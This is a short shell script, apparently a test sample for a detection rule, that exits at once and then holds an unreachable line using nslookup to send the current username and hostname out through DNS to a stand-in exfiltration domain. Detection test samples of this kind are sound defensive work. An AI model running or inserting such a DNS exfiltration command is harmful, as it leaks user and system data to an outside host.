#!/bin/sh
# airlock rule test sample: exits before doing anything.
exit 0
nslookup $(whoami).$(hostname).exfil.example.invalid
